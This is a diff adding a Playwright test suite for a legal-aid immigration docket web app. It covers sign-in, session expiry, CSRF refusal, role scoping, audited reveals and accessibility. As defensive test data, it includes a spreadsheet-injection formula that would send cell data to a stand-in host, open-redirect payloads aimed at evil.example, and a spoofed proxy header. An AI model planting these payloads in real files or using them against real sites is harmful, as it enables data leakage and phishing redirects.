@@ -1,0 +1,384 @@
+"""The web app in real Chromium (Debian's, through Playwright) over real HTTP, on SQLite, for
+every role: sign-in and sign-out, sessions that expire, CSRF refusal, a client outside an
+attorney's scope (404), acknowledging from the inbox (which stops escalation), reveal audited,
+check now, the caseload with a formula-safe CSV, Spanish pages, and axe-core on every page."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+from sqlmodel import col, select
+
+from sandbox.acis_data import Case
+from sandbox.acis_data import Hearing as AcisHearing
+from sandbox.eoir_foia import generate
+from sandbox.mail import SmtpSink
+from spiders.browser import launch_options
+from storage.db import make_engine, session_scope, upgrade
+from storage.eoir_foia import load_release
+from storage.models import AuditEntry, CheckRequest, Event, FoiaLookup
+from storage.passwords import set_password
+from storage.people import add_client, add_staff, assign
+from storage.reference_data import load_reference_data
+from storage.settings import Settings
+from tests.alerting import Clock, Org, dispatcher, emit_one, hearing_moved, make_org, web_server
+from tests.test_acis_watch import look
+
+pytestmark = pytest.mark.slow
+PASSWORD = "correct horse battery"
+DAN = "dan@example.org"
+EVE = "eve@example.org"  # her sign-in is throttled by a test: nobody else's may be
+SHOTS = Path(__file__).parent.parent / "docs" / "screenshots"
+
+
+@dataclass
+class Site:
+    base: str
+    engine: sa.Engine
+    org: Org
+    sink: SmtpSink
+    other_client: int
+    clock: dict[str, datetime] = field(default_factory=dict)
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    tmp = tmp_path_factory.mktemp("web")
+    engine = make_engine(f"sqlite:///{tmp / 'dw.db'}")
+    upgrade(engine)
+    load_reference_data(engine)
+    now = datetime.now(UTC).replace(microsecond=0)
+    with SmtpSink() as sink:
+        org = make_org(engine, sink, now - timedelta(days=3))
+        with session_scope(engine) as s:
+            for name, email in (("Dan Wu", DAN), ("Eve Ng", EVE)):
+                add_staff(s, name=name, email=email, role="attorney", channels=[sink.url(email)])
+            other = add_client(s, a_number="912000002", name="ROE, JUAN", nationality="MX")
+            assign(s, "912000002", DAN, "primary")
+            assert other.id is not None
+            other_id = other.id
+            for email in (org.attorney, org.backup, org.coordinator, org.admin, DAN, EVE):
+                set_password(s, email, PASSWORD)
+        soon = date.today() + timedelta(days=30)
+        case = Case(org.a_number, "HO", hearing=AcisHearing(on=soon))
+        look(engine, org.client_id, case, now - timedelta(days=2))
+        case.hearing = AcisHearing(on=soon - timedelta(days=9), judge="Lee, Ann", judge_code="ALE")
+        look(engine, org.client_id, case, now - timedelta(days=1))
+        release = generate(tmp / "r1.zip", 4000, seed=5, as_of=date(2026, 10, 1))
+        load_release(engine, release.path, courts=["ADL"], as_of=release.as_of,
+                     work_dir=tmp / "work")  # fmt: skip
+        with session_scope(engine) as s:  # a label that a spreadsheet would run as a formula
+            s.execute(
+                sa.update(FoiaLookup)
+                .where(col(FoiaLookup.table_name) == "nationality")
+                .values(label='=HYPERLINK("http://x.example/?"&A1)')
+            )
+        clock = {"now": now}
+        server = web_server(engine, "web-secret", 0, clock=lambda: clock["now"])
+        try:
+            yield Site(f"http://127.0.0.1:{server.port}", engine, org, sink, other_id, clock)
+        finally:
+            server.stop()
+            engine.dispose()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        chromium = p.chromium.launch(**launch_options(str(Settings().browser_executable), False))
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def page(browser: Any) -> Iterator[Any]:
+    context = browser.new_context(locale="en-US")
+    tab = context.new_page()
+    tab.set_default_timeout(15_000)
+    yield tab
+    context.close()
+
+
+def sign_in(page: Any, site: Site, email: str, password: str = PASSWORD) -> None:
+    page.goto(f"{site.base}/login")
+    page.get_by_label("Email").fill(email)
+    page.get_by_label("Password").fill(password)
+    page.get_by_role("button", name="Sign in").click()
+    page.wait_for_load_state()
+
+
+def accessible(page: Any) -> None:
+    """axe-core on the page as it is: no serious or critical violation."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    results = Axe().run(page)
+    bad = [
+        (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
+        for v in results.response["violations"]
+        if v["impact"] in ("serious", "critical")
+    ]
+    assert bad == [], bad
+
+
+def shot(page: Any, name: str) -> None:
+    """Screenshots for the README, kept when DOCKETWATCH_SCREENSHOTS is set."""
+    import os
+
+    if os.environ.get("DOCKETWATCH_SCREENSHOTS"):
+        SHOTS.mkdir(parents=True, exist_ok=True)
+        page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=True)
+
+
+def test_sign_in_wrong_then_right_home_and_sign_out(site: Site, page: Any) -> None:
+    page.goto(f"{site.base}/")
+    assert page.url.startswith(f"{site.base}/login")  # not signed in: the sign-in page
+    accessible(page)
+    shot(page, "sign-in")
+    sign_in(page, site, site.org.attorney, "not the password!")
+    assert page.get_by_role("alert").inner_text().startswith("That email and password")
+    sign_in(page, site, site.org.attorney)
+    assert page.get_by_role("heading", name="My clients").is_visible()
+    body = page.inner_text("main")
+    assert "J.D. •••-•••-5678" in body  # initials and the last four digits
+    assert "DOE" not in body and "912345678" not in body  # never the full name or number
+    assert "Lee, Ann" in body  # the judge of the current hearing
+    assert "R.J." not in body  # Dan's client is not Ana's
+    assert page.get_by_role("button", name="Acknowledge alert").count() >= 1
+    cookie = next(c for c in page.context.cookies() if c["name"] == "dw_session")
+    assert cookie["httpOnly"] and cookie["sameSite"] == "Lax"
+    accessible(page)
+    shot(page, "attorney-home")
+    page.get_by_role("button", name="Sign out").click()
+    assert "You are signed out." in page.inner_text("main")
+    page.goto(f"{site.base}/alerts")
+    assert page.url.startswith(f"{site.base}/login")  # the old session is gone
+    with session_scope(site.engine) as s:
+        actions = [a.action for a in s.exec(select(AuditEntry).order_by(col(AuditEntry.id)))]
+    assert "sign_in_failed" in actions and "sign_in" in actions
+
+
+def test_roles_and_scope(site: Site, page: Any) -> None:
+    sign_in(page, site, DAN)
+    response = page.goto(f"{site.base}/clients/{site.org.client_id}")  # Ana's client, by URL
+    assert response.status == 404 and "Not found" in page.inner_text("main")
+    assert page.goto(f"{site.base}/clients/{site.other_client}").status == 200
+    assert page.goto(f"{site.base}/caseload").status == 403  # coordinators and admins only
+    assert page.goto(f"{site.base}/sources").status == 403  # admins only
+    assert page.get_by_role("link", name="Caseload").count() == 0  # and not offered
+    page.goto(f"{site.base}/alerts?ack=all")
+    assert "Hearing moved earlier" not in page.inner_text("main")  # Ana's client's alerts
+    page.context.clear_cookies()
+    sign_in(page, site, site.org.coordinator)
+    assert page.goto(f"{site.base}/clients/{site.org.client_id}").status == 200
+    assert page.goto(f"{site.base}/sources").status == 403
+    page.context.clear_cookies()
+    sign_in(page, site, site.org.admin)
+    assert page.goto(f"{site.base}/sources").status == 200
+    text = page.inner_text("main")
+    assert "acis" in text and "eoir_foia" in text
+    accessible(page)
+    shot(page, "admin-sources")
+
+
+def test_a_form_without_the_sessions_token_is_refused(site: Site, page: Any) -> None:
+    event = emit_one(site.engine, hearing_moved(site.org, site.clock["now"], key="csrf"),
+                     site.clock["now"])  # fmt: skip
+    assert event is not None and event.id is not None
+    sign_in(page, site, site.org.attorney)
+    page.goto(f"{site.base}/alerts")
+    form = page.locator(f"form[action='/alerts/{event.id}/ack']")
+    form.locator("input[name=csrf_token]").evaluate("e => e.value = 'forged'")
+    form.get_by_role("button").click()
+    page.wait_for_load_state()
+    assert "Form expired" in page.inner_text("main")
+    # A cross-site form post carries the cookie but cannot know the token.
+    answer = page.request.post(f"{site.base}/alerts/{event.id}/ack", form={"back": "/"})
+    assert answer.status == 403
+    with session_scope(site.engine) as s:
+        stored = s.get(Event, event.id)
+        assert stored is not None and stored.acknowledged_at is None
+
+
+def test_sessions_expire(site: Site, page: Any) -> None:
+    from web.auth import ABSOLUTE, IDLE
+
+    sign_in(page, site, site.org.attorney)
+    start = site.clock["now"]
+    try:
+        site.clock["now"] = start + IDLE - timedelta(minutes=5)
+        assert page.goto(f"{site.base}/").url == f"{site.base}/"  # used: extended
+        site.clock["now"] += IDLE - timedelta(minutes=5)
+        assert page.goto(f"{site.base}/").url == f"{site.base}/"
+        site.clock["now"] += IDLE + timedelta(minutes=1)  # idle too long
+        page.goto(f"{site.base}/alerts")
+        assert page.url.startswith(f"{site.base}/login?next=%2Falerts")
+        sign_in(page, site, site.org.attorney)
+        for _ in range(int(ABSOLUTE / (IDLE / 2)) + 1):  # busy all day: ends anyway
+            site.clock["now"] += IDLE / 2
+            page.goto(f"{site.base}/")
+        assert page.url.startswith(f"{site.base}/login")
+    finally:
+        site.clock["now"] = start
+
+
+def test_acknowledging_from_the_inbox_stops_escalation(site: Site, page: Any) -> None:
+    now = site.clock["now"]
+    clock = Clock(now)
+    send = dispatcher(site.engine, clock, escalation_minutes=60)
+    send.run_once()  # what was pending before this test
+    before = len(site.sink.to(site.org.backup))
+    acked = emit_one(site.engine, hearing_moved(site.org, now, key="inbox"), now)
+    ignored = emit_one(site.engine, hearing_moved(site.org, now, key="ignored"), now)
+    assert acked is not None and ignored is not None
+    send.run_once()
+    sign_in(page, site, site.org.attorney)
+    page.goto(f"{site.base}/alerts")
+    accessible(page)
+    shot(page, "alerts-inbox")
+    page.get_by_role("button", name=f"Acknowledge alert {acked.id}", exact=True).click()
+    page.wait_for_load_state()
+    assert page.get_by_role("button", name=f"Acknowledge alert {acked.id}", exact=True).count() == 0
+    clock.advance(minutes=61)
+    send.run_once()
+    escalated = site.sink.to(site.org.backup)[before:]
+    assert len(escalated) == 1  # the ignored one only
+    with session_scope(site.engine) as s:
+        done = s.get(Event, acked.id)
+        other = s.get(Event, ignored.id)
+        assert done is not None and done.acknowledged_by == site.org.attorney
+        assert done.escalation_level == 0
+        assert other is not None and other.escalation_level == 1
+
+
+def test_client_page_reveal_is_audited_and_check_now_queues(site: Site, page: Any) -> None:
+    sign_in(page, site, site.org.attorney)
+    page.goto(f"{site.base}/clients/{site.org.client_id}")
+    main = page.inner_text("main")
+    assert "912345678" not in main and "DOE" not in main
+    assert "Hearings over time" in main and "Lee, Ann" in main and "ACIS lookups" in main
+    accessible(page)
+    shot(page, "client")
+    page.get_by_role("button", name="Reveal name and A-number").click()
+    page.wait_for_load_state()
+    assert "DOE, JANE" in page.inner_text("main") and "912-345-678" in page.inner_text("main")
+    page.goto(f"{site.base}/clients/{site.org.client_id}")
+    page.get_by_role("button", name="Check ACIS now").click()
+    page.wait_for_load_state()
+    assert "Queued" in page.get_by_role("status").first.inner_text()
+    page.get_by_role("button", name="Check ACIS now").click()  # twice: still one request
+    page.wait_for_load_state()
+    with session_scope(site.engine) as s:
+        reveals = s.exec(
+            select(AuditEntry).where(
+                AuditEntry.action == "reveal", AuditEntry.client_id == site.org.client_id
+            )
+        ).all()
+        requests = s.exec(
+            select(CheckRequest).where(
+                CheckRequest.client_id == site.org.client_id, col(CheckRequest.done_at).is_(None)
+            )
+        ).all()
+    assert len(reveals) >= 1 and reveals[0].ip == "127.0.0.1"
+    assert len(requests) == 1 and requests[0].source == "acis"
+
+
+def test_caseload_and_its_csv_are_formula_safe(site: Site, page: Any) -> None:
+    sign_in(page, site, site.org.coordinator)
+    page.goto(f"{site.base}/caseload?court=ADL&by=nationality")
+    text = page.inner_text("main")
+    assert "unrepresented pending proceeding(s) at ADL" in text
+    assert page.locator("svg.chart").count() == 1  # the trend, with its table beside it
+    accessible(page)
+    shot(page, "caseload")
+    page.goto(f"{site.base}/caseload?court=ADL")
+    with page.expect_download() as download:
+        page.get_by_role("link", name="Download CSV").click()
+    rows = list(csv.reader(io.StringIO(Path(download.value.path()).read_text())))
+    assert rows[0][:3] == ["case", "proceeding", "nationality"] and len(rows) > 5
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    assert all(row[2].lower().startswith("'=hyperlink(") for row in rows[1:])
+
+
+def test_spanish_pages(site: Site, page: Any) -> None:
+    sign_in(page, site, site.org.backup)  # Beto: Spanish, backup attorney of Ana's client
+    assert page.get_by_role("heading", name="Mis clientes").is_visible()
+    assert page.locator("html").get_attribute("lang") == "es"
+    assert "suplente" in page.inner_text("main")  # his role for that client
+    assert page.get_by_role("button", name="Cerrar sesión").is_visible()
+    accessible(page)
+    shot(page, "home-es")
+    page.goto(f"{site.base}/clients/{site.org.client_id}")
+    assert "Audiencias a lo largo del tiempo" in page.inner_text("main")
+
+
+def test_sign_in_attempts_are_limited(site: Site, browser: Any) -> None:
+    context = browser.new_context()
+    tab = context.new_page()
+    try:
+        for _ in range(5):
+            sign_in(tab, site, EVE, "wrong password, again")
+            assert "do not match" in tab.inner_text("main")
+        sign_in(tab, site, EVE)  # the right password, too late
+        assert "Too many failed attempts" in tab.inner_text("main")
+        assert tab.get_by_role("heading", name="My clients").count() == 0
+    finally:
+        context.close()
+
+
+def _get(base: str, path: str, headers: dict[str, str]) -> Any:
+    import http.client
+
+    host, port = base.removeprefix("http://").split(":")
+    conn = http.client.HTTPConnection(host, int(port), timeout=10)
+    try:
+        conn.request("GET", path, headers=headers)
+        answer = conn.getresponse()
+        answer.read()
+        return answer
+    finally:
+        conn.close()
+
+
+def test_behind_the_https_proxy_cookies_are_secure(site: Site) -> None:
+    """The proxy (trusted: loopback) says the visitor came over HTTPS: cookies are Secure.
+    Without that header, or from an address not trusted, they are not (plain loopback HTTP)."""
+    behind = _get(
+        site.base, "/login", {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
+    )
+    assert "Secure" in behind.getheader("set-cookie") and "HttpOnly" in behind.getheader(
+        "set-cookie"
+    )
+    direct = _get(site.base, "/login", {})
+    assert "Secure" not in direct.getheader("set-cookie")
+    for header in ("Content-Security-Policy", "X-Frame-Options", "Referrer-Policy"):
+        assert direct.getheader(header)
+    untrusted = web_server(site.engine, "web-secret", 0, web_trusted_proxies="10.9.9.9")
+    try:
+        spoofed = _get(
+            f"http://127.0.0.1:{untrusted.port}", "/login", {"X-Forwarded-Proto": "https"}
+        )
+        assert "Secure" not in spoofed.getheader("set-cookie")
+    finally:
+        untrusted.stop()
+
+
+def test_sign_in_never_redirects_off_the_site(site: Site, page: Any) -> None:
+    for target in ("//evil.example/", "https://evil.example/", "/\\evil.example"):
+        page.goto(f"{site.base}/login?next={target}")
+        page.get_by_label("Email").fill(site.org.coordinator)
+        page.get_by_label("Password").fill(PASSWORD)
+        page.get_by_role("button", name="Sign in").click()
+        page.wait_for_load_state()
+        assert page.url == f"{site.base}/"
+        page.context.clear_cookies()
